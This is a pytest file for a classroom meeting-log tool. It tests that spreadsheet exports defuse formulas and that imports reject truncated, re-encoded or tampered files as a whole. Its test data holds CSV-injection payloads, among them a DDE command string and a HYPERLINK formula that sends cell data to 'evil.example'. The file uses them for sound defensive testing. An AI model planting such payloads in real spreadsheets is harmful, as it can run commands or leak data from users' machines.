"""The meeting log against hostile or broken files (issue 17, items 8 and 9): an import
checks its manifest, applies the API's rules and is all-or-nothing; CSV and Excel exports
never hand a spreadsheet a formula, and import gives back the exact text."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from click.testing import CliRunner

from coachkit.errors import CoachkitDataError
from coachkit.store import MeetingLog
from coachkit.store.transfer import from_spreadsheet, spreadsheet_safe, table_checksum
from store_helpers import db_url, pg_db  # noqa: F401  (fixtures)

HOSTILE = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
           '=HYPERLINK("http://evil.example/?"&A1,"click")', "-2+3", "+", "@", "=",
           "'=already quoted", "'", "''", "'plain", "a\r\nb", "x_x000D_y", "_x005F_",
           "ctrl \x01\x0b\x1f", " =1 (leading space)", "plain text", "3.0", "2025-10-10"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def filled(url):
    log = MeetingLog(url)
    m = log.start_meeting(school_id="S1", grade=3, classroom_id="C1", cycle=2,
                          date="2025-10-10", attendees=["=Ms. Rivera", "Coach Lee"])
    for h in HOSTILE:
        log.add_observation(m, h)
    c = log.add_commitment(m, action="=1+1", owner="@owner", student_ids=["-ST1", "ST2"])
    log.update_commitment(c, note="+note", by="=by")
    log.set_level("-ST1", "T1", 3, author="=Ms. Rivera", reason="@reason")
    log.add_goal("-ST1", text="=goal", author="+me")
    log.add_plan("-ST1", "T1", actions="-do", support="=help", helpers="@mom", author="A")
    log.add_reflection("-ST1", proud="=proud", hard="\tHard", author="A")
    return log, m


def reference(log):
    return {w: getattr(log, w)() for w in ("meetings", "observations", "commitments",
                                           "commitment_updates", "level_overrides", "goals",
                                           "plans", "reflections")}


# ---- item 9: spreadsheet safety ----------------------------------------------------------
def test_cell_rule_is_reversible():
    for h in HOSTILE:
        safe = spreadsheet_safe(h)
        assert not safe.startswith(FORMULA), h
        assert from_spreadsheet(safe) == h


@pytest.mark.parametrize("fmt", ["csv", "log.xlsx", "log.json"])
def test_every_hostile_string_round_trips(db_url, tmp_path, fmt):
    import pandas as pd
    log, _ = filled(db_url)
    path = tmp_path / fmt
    log.export(path)
    copy = MeetingLog(tmp_path / "copy.db")
    copy.import_(path)
    assert list(copy.observations()["text"]) == HOSTILE
    want, got = reference(log), reference(copy)
    for w in want:
        pd.testing.assert_frame_equal(want[w], got[w], obj=w)


def test_csv_export_cells_are_never_formulas(tmp_path):
    log, _ = filled(tmp_path / "log.db")
    log.export(tmp_path / "exp")
    n = 0
    for f in (tmp_path / "exp").glob("*.csv"):
        with open(f, encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    n += 1
                    assert not cell.startswith(FORMULA), (f.name, cell)
    assert n > 100
    text = (tmp_path / "exp" / "observations.csv").read_text(encoding="utf-8")
    assert "'=1+1" in text and "'@SUM(A1)" in text and "''=already quoted" in text


def test_xlsx_export_has_no_formula_cells(tmp_path):
    from openpyxl import load_workbook
    log, _ = filled(tmp_path / "log.db")
    log.export(tmp_path / "log.xlsx")
    wb = load_workbook(tmp_path / "log.xlsx")          # not read-only: see cell types
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert len(cells) > 100
    assert all(c.data_type != "f" for c in cells)
    assert all(not str(c.value).startswith(FORMULA) for c in cells)


def test_cli_csv_listing_is_spreadsheet_safe(tmp_path):
    from coachkit.cli import main
    db = f"sqlite:///{tmp_path / 'log.db'}"
    filled(db)
    r = CliRunner().invoke(main, ["log", "--db", db, "list", "observations", "--format", "csv"])
    assert r.exit_code == 0
    rows = list(csv.reader(io.StringIO(r.output, newline="")))
    assert all(not cell.startswith(FORMULA) for row in rows for cell in row)
    assert any(cell == "'=1+1" for row in rows for cell in row)


# ---- item 8: the manifest ----------------------------------------------------------------
def exported(tmp_path, fmt="exp"):
    log, m = filled(tmp_path / "src.db")
    path = tmp_path / fmt
    log.export(path)
    return log, m, path


def refused(path, match, tmp_path):
    target = MeetingLog(tmp_path / "target.db")
    with pytest.raises(CoachkitDataError, match=match) as e:
        target.import_(path)
    assert all(len(df) == 0 for df in reference(target).values())     # all or nothing
    return e.value


def test_truncated_csv_is_refused(tmp_path):
    _, _, path = exported(tmp_path)
    f = path / "observations.csv"
    with open(f, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    with open(f, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\r\n").writerows(rows[:6])    # cut off mid-export
    e = refused(path, r"observations: the manifest lists 24 rows, the file has 5 "
                      r"\(truncated", tmp_path)
    assert e.table == "observations"


def test_missing_table_file_is_refused(tmp_path):
    _, _, path = exported(tmp_path)
    (path / "goals.csv").unlink()
    refused(path, "goals: the manifest lists 1 rows, the file is missing", tmp_path)


def test_edited_cell_fails_the_checksum(tmp_path):
    _, _, path = exported(tmp_path)
    f = path / "commitments.csv"
    f.write_bytes(f.read_bytes().replace(b",3,", b",4,"))
    refused(path, "commitments: the checksum differs", tmp_path)


def test_manifest_without_checksums_or_wrong_counts(tmp_path):
    _, _, path = exported(tmp_path)
    mf = path / "manifest.json"
    man = json.loads(mf.read_text())
    mf.write_text(json.dumps({**man, "checksums": None}))
    refused(path, "counts and checksums", tmp_path)
    mf.write_text(json.dumps({**man, "counts": {**man["counts"], "meetings": 5}}))
    refused(path, "meetings: the manifest lists 5 rows, the file has 1", tmp_path)
    mf.write_text(json.dumps({**man, "counts": {**man["counts"], "secrets": 1}}))
    refused(path, "the manifest lists secrets", tmp_path)
    mf.write_text(json.dumps({**man, "schema_version": "0001"}))
    refused(path, "expected row counts and checksums|the manifest lists", tmp_path)


def test_cp1252_resaved_csv_gives_a_clear_error(tmp_path):
    _, _, path = exported(tmp_path)
    f = path / "observations.csv"
    text = f.read_text(encoding="utf-8").replace("plain text", "Hernández dijo")
    f.write_bytes(text.encode("cp1252", errors="replace"))
    e = refused(path, r"observations.csv: expected UTF-8 text, got byte 0xe1 on line "
                      r"\d+ .*Windows-1252", tmp_path)
    assert e.file.endswith("observations.csv")


@pytest.mark.parametrize("content,match", [
    (b"{not json", "expected JSON, got a syntax error on line 1"),
    (b"\x89PNG\r\n\x1a\n\x00\x00garbage", "expected UTF-8 text"),
    (b"[1, 2, 3]", "expected a JSON object"),
    (b'{"format": "something-else", "tables": {}}', "expected a meeting-log export"),
    (b"", "expected JSON"),
])
def test_bad_json_files(tmp_path, content, match):
    path = tmp_path / "bad.json"
    path.write_bytes(content)
    refused(path, match, tmp_path)


def test_damaged_csv_and_workbook(tmp_path):
    _, _, path = exported(tmp_path)
    f = path / "goals.csv"
    lines = f.read_bytes().split(b"\r\n")
    f.write_bytes(lines[0] + b"\r\n" + lines[1] + b",extra\r\n")
    refused(path, r"goals, row 0: expected 10 cells, got 11", tmp_path)
    f.write_text('goal_id,student_id\r\n"unclosed,x\r\n', encoding="utf-8")
    refused(path, "goals.csv: expected CSV, got unexpected end of data", tmp_path)
    f.write_text('goal_id,student_id\r\n', encoding="utf-8")
    refused(path, "goals: expected the columns goal_id, student_id, target_id", tmp_path)
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"PK\x03\x04 not really a zip")
    refused(bad, "expected an Excel workbook", tmp_path)
    with zipfile.ZipFile(tmp_path / "empty.xlsx", "w") as z:
        z.writestr("hello.txt", "hi")
    refused(tmp_path / "empty.xlsx", "expected an Excel workbook", tmp_path)


def test_cli_import_of_broken_files_exits_1_without_traceback(tmp_path):
    from coachkit.cli import main
    _, _, path = exported(tmp_path)
    f = path / "observations.csv"
    f.write_bytes(f.read_text(encoding="utf-8").replace("plain text", "ñ").encode("cp1252"))
    bad_json = tmp_path / "bad.json"
    bad_json.write_text("{oops")
    db = f"sqlite:///{tmp_path / 'cli.db'}"
    for p in (path, bad_json):
        r = CliRunner().invoke(main, ["log", "--db", db, "import", str(p)])
        assert r.exit_code == 1, r.output
        assert r.output.startswith("error: ") and "Traceback" not in r.output
        assert r.exception is None or isinstance(r.exception, SystemExit)


# ---- item 8: the API's rules on import (a re-signed, well-formed but hostile file) ------
def resigned(tmp_path, edit):
    log, m, path = exported(tmp_path, "exp.json")
    doc = json.loads(path.read_text(encoding="utf-8"))
    edit(doc["tables"], m)
    doc["counts"] = {n: len(r) for n, r in doc["tables"].items()}
    doc["checksums"] = {n: table_checksum(n, r) for n, r in doc["tables"].items()}
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def _set(table, col, value, row=0):
    def edit(t, m):
        t[table][row][col] = value
    return edit


@pytest.mark.parametrize("edit,match", [
    (_set("observations", "text", "a\x00b"), "observations, row 0, column 'text'.*NUL"),
    (_set("meetings", "classroom_id", "C" * 201),
     "meetings, row 0, column 'classroom_id'.*limit is 200"),
    (_set("observations", "observation_id", "f" * 33), "observation_id'.*limit is 32"),
    (_set("commitments", "owner", "o" * 300), "commitments, row 0, column 'owner'"),
    (_set("meetings", "attendees", '"Ms. Rivera, Coach Lee"'), "attendees.*a JSON list"),
    (_set("meetings", "attendees", '{"a": 1}'), "attendees.*a JSON list"),
    (_set("meetings", "attendees", '[1, 2]'), "attendees"),
    (_set("meetings", "attendees", '["A", "A"]'), "each name once"),
    (_set("meetings", "grade", 13), "grade K-12"),
    (_set("commitments", "due_cycle", 1), "due_cycle.*cycle 2 \\(the meeting's\\) or later"),
    (_set("observations", "kind", "idea"), "observations, row 0, column 'kind'"),
    (_set("level_overrides", "level", 9.0), "level_overrides, row 0, column 'level'"),
    (_set("goals", "set_by", "principal"), "goals, row 0, column 'set_by'"),
    (_set("reflections", "proud", None), None),       # hard is still there: accepted
    (_set("observations", "meeting_id", "e" * 32), "meeting_id.*a meeting in this export"),
    (_set("observations", "created_at", "yesterday"), "created_at.*a date and time"),
    (_set("commitments", "due_cycle", 2.5), "due_cycle.*a whole number"),
    (_set("meetings", "cycle", 0), "meetings, row 0, column 'cycle'"),
])
def test_import_applies_the_api_rules(tmp_path, edit, match):
    path = resigned(tmp_path, edit)
    if match is None:
        MeetingLog(tmp_path / "target.db").import_(path)
        return
    refused(path, match, tmp_path)


def test_second_meeting_for_a_classroom_and_cycle_is_refused(tmp_path):
    def twin(t, m):
        t["meetings"].append({**t["meetings"][0], "meeting_id": "a" * 32,
                              "date": "2025-10-17"})
        t["group_decisions"].append({
            "decision_id": "b" * 32, "meeting_id": "a" * 32, "adoption_id": "c" * 32,
            "student_id": "ST2", "group": "Z", "focus_target_id": None, "reason": None,
            "changed_by": None, "note": None, "created_at": "2025-10-17T10:00:00.000000"})
    refused(resigned(tmp_path, twin), "one meeting for C1 in cycle 2", tmp_path)
    # and against a meeting already in the log
    log = MeetingLog(tmp_path / "target.db")
    log.start_meeting(school_id="S1", grade=3, classroom_id="C1", cycle=2)
    _, _, path = exported(tmp_path / "again" if (tmp_path / "again").mkdir() is None else
                          tmp_path, "exp2.json")
    with pytest.raises(CoachkitDataError, match="already has meeting"):
        log.import_(path)
    assert len(log.meetings()) == 1 and log.observations().empty


def test_two_current_levels_for_one_pair_are_refused(tmp_path):
    def twice(t, m):
        t["level_overrides"].append({**t["level_overrides"][0], "override_id": "d" * 32})
    refused(resigned(tmp_path, twice), "one level set by hand in force for -ST1 on T1",
            tmp_path)
    log = MeetingLog(tmp_path / "target.db")
    log.set_level("-ST1", "T1", 2, author="Mr. Ng", reason="here first")
    _, _, path = exported(tmp_path / "b" if (tmp_path / "b").mkdir() is None else tmp_path,
                          "e.json")
    with pytest.raises(CoachkitDataError, match="already in force"):
        log.import_(path)
    assert len(log.level_overrides(current=False)) == 1


def test_import_checks_students_against_the_dataset(tmp_path):
    _, _, path = exported(tmp_path)
    target = MeetingLog(tmp_path / "t.db", students=["ST2"])
    with pytest.raises(CoachkitDataError, match="unknown student"):
        target.import_(path)
    assert target.meetings().empty


# ---- logs and exports from before the student tables ------------------------------------
def test_a_0001_log_upgrades_in_place_and_keeps_its_records(db_url):
    from sqlalchemy import text

    from coachkit.store.migrate import upgrade
    log = MeetingLog(db_url)
    with log.engine.begin() as c:                        # back to the first schema
        for t in ("level_overrides", "goals", "plans", "reflections"):
            c.execute(text(f"DROP TABLE {t}"))
        c.execute(text("UPDATE alembic_version SET version_num = '0001'"))
    assert log.schema_version == "0001"
    m = log.start_meeting(school_id="S1", grade=3, classroom_id="C1", cycle=2)
    log.add_observation(m, "kept across the upgrade")
    assert upgrade(log.engine) == "0003"
    again = MeetingLog(db_url)
    assert list(again.observations()["text"]) == ["kept across the upgrade"]
    again.set_level("ST1", "T1", 3, author="A", reason="after the upgrade")
    assert len(again.level_overrides()) == 1


def test_a_0001_csv_export_still_imports_verbatim(tmp_path):
    from coachkit.store.transfer import dump_tables
    from coachkit.store.schema import TABLES
    src = MeetingLog(tmp_path / "src.db")
    m = src.start_meeting(school_id="S1", grade=3, classroom_id="C1", cycle=2)
    src.add_observation(m, "'quoted by the teacher")       # 0001 wrote text verbatim
    tables = dump_tables(src)
    old = list(TABLES)[:6]
    folder = tmp_path / "old-export"
    folder.mkdir()
    for name in old:
        with open(folder / f"{name}.csv", "w", encoding="utf-8", newline="") as f:
            w = csv.writer(f, lineterminator="\r\n")
            w.writerow([c.name for c in TABLES[name].c])
            w.writerows([["" if r[c.name] is None else r[c.name] for c in TABLES[name].c]
                         for r in tables[name]])
    (folder / "manifest.json").write_text(json.dumps({
        "format": "coachkit-meeting-log", "schema_version": "0001",
        "tables": {n: len(tables[n]) for n in old}}))
    copy = MeetingLog(tmp_path / "copy.db")
    assert copy.import_(folder)["observations"] == 1
    assert list(copy.observations()["text"]) == ["'quoted by the teacher"]
    man = json.loads((folder / "manifest.json").read_text())
    man["tables"]["observations"] = 3                        # still checks the counts
    (folder / "manifest.json").write_text(json.dumps(man))
    refused(folder, "observations: the manifest lists 3 rows, the file has 1", tmp_path)


def test_text_too_long_for_an_excel_cell_is_refused_not_cut(tmp_path):
    log = MeetingLog(tmp_path / "log.db")
    m = log.start_meeting(school_id="S1", grade=3, classroom_id="C1", cycle=2)
    log.add_observation(m, "x" * 40_000)                  # the log keeps it whole
    with pytest.raises(CoachkitDataError, match=r"observations, row 0, column 'text'.*"
                                                r"32,767.*CSV files or to .json"):
        log.export(tmp_path / "log.xlsx")
    assert not (tmp_path / "log.xlsx").exists()
    log.export(tmp_path / "log.json")                     # the other forms keep it
    copy = MeetingLog(tmp_path / "copy.db")
    copy.import_(tmp_path / "log.json")
    assert copy.observations().loc[0, "text"] == "x" * 40_000
